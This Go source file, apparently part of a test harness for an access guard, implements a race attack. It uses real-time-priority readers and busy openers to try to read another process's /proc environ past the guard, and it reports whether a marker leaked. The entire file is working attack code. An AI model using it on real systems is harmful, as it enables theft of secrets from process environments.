package attack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"flag"
	"os"
	"runtime"
	"strconv"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"svc.example/bypass/internal/kernel"
	"svc.example/bypass/internal/report"
)

const (
	openers = 2
	// arena is the number of the first descriptor beyond the standard ones.
	arena      = 3
	arenaBytes = 64 << 10
	// where in the arena the reader counts; behind it is what it got.
	triedAt, deniedAt, gotAt = 0, 4, 64
)

type outran struct {
	Tries  int `json:"tries"`
	Denied int `json:"denied"`
	// Killed counts readers.
	Killed int  `json:"killed"`
	Leaked bool `json:"leaked"`
}

// outrun has readers of real-time priority on one processor try environ, where nice ones open another process's
// without pause: a reader wakes while an opener is inside of the guard's program, if the kernel lets it.
func outrun(arguments []string) error {
	flags := flag.NewFlagSet("outrun", flag.ExitOnError)
	pid := flags.Int("pid", 0, "whose")
	bait := flags.Int("bait", 0, "whose environ may be opened")
	marker := flags.String("marker", "", "what to look for")
	tries := flags.Int("tries", 400, "how many, of all readers together")
	_ = flags.Parse(arguments)
	runtime.GOMAXPROCS(openers + 4)
	for range openers {
		go openWithoutPause(kernel.Proc(*bait, "environ"))
	}
	var result outran
	for result.Tries < *tries {
		if err := result.add(*pid, *tries-result.Tries, *marker); err != nil {
			return err
		}
	}
	report.Line(result)
	return nil
}

// add judges by what is in the memory that outlives the reader.
func (o *outran) add(pid, tries int, marker string) error {
	descriptor, err := unix.MemfdCreate("arena", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	file := os.NewFile(uintptr(descriptor), "arena")
	defer file.Close()
	if err := file.Truncate(arenaBytes); err != nil {
		return err
	}
	reader := elsewhere("outrun-one", strconv.Itoa(pid), strconv.Itoa(tries))
	reader.ExtraFiles = []*os.File{file}
	if reader.Run() != nil {
		o.Killed++
	}
	memory := make([]byte, arenaBytes)
	if _, err := file.ReadAt(memory, 0); err != nil {
		return err
	}
	o.Tries += int(binary.NativeEndian.Uint32(memory[triedAt:]))
	o.Denied += int(binary.NativeEndian.Uint32(memory[deniedAt:]))
	o.Leaked = o.Leaked || bytes.Contains(memory[gotAt:], []byte(marker))
	return nil
}

// outrunOne is one reader; it may be killed at any time.
func outrunOne(arguments []string) error {
	path, err := unix.BytePtrFromString("/proc/" + arguments[0] + "/environ")
	if err != nil {
		return err
	}
	memory, err := unix.Mmap(arena, 0, arenaBytes, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	if err := hurry(); err != nil {
		return err
	}
	for try := range kernel.Number(arguments[1]) {
		binary.NativeEndian.PutUint32(memory[triedAt:], uint32(try+1))
		sleepRaw(200*time.Microsecond + time.Duration(try*37%300)*time.Microsecond)
		if readRaw(path, memory[gotAt:]) == unix.EACCES {
			denied := binary.NativeEndian.Uint32(memory[deniedAt:])
			binary.NativeEndian.PutUint32(memory[deniedAt:], denied+1)
		}
	}
	return nil
}

func openWithoutPause(path string) {
	runtime.LockOSThread()
	_ = yield()
	name, err := unix.BytePtrFromString(path)
	for err == nil {
		readRaw(name, nil)
	}
}

// hurry and yield are for the calling thread, which they keep on the first processor: there, who hurries takes it
// from who yields.

func hurry() error {
	urgent := unix.SchedAttr{Size: unix.SizeofSchedAttr, Policy: unix.SCHED_FIFO, Priority: 50}
	return errors.Join(onFirstProcessor(), unix.SchedSetAttr(0, &urgent, 0))
}

func yield() error {
	return errors.Join(onFirstProcessor(), unix.Setpriority(unix.PRIO_PROCESS, 0, 10))
}

func onFirstProcessor() error {
	var first unix.CPUSet
	first.Set(0)
	return unix.SchedSetaffinity(0, &first)
}

// The following keep out of the way of Go's scheduler, which would give the processor to others.

func readRaw(path *byte, into []byte) unix.Errno {
	folder := unix.AT_FDCWD
	descriptor, _, errno := unix.RawSyscall6(unix.SYS_OPENAT, uintptr(folder), uintptr(unsafe.Pointer(path)),
		unix.O_RDONLY|unix.O_CLOEXEC, 0, 0, 0)
	if errno != 0 {
		return errno
	}
	if len(into) > 0 {
		_, _, errno = unix.RawSyscall(unix.SYS_READ, descriptor, uintptr(unsafe.Pointer(&into[0])),
			uintptr(len(into)))
	}
	unix.RawSyscall(unix.SYS_CLOSE, descriptor, 0, 0)
	return errno
}

func sleepRaw(time time.Duration) {
	pause := unix.NsecToTimespec(int64(time))
	unix.RawSyscall(unix.SYS_NANOSLEEP, uintptr(unsafe.Pointer(&pause)), 0, 0)
}
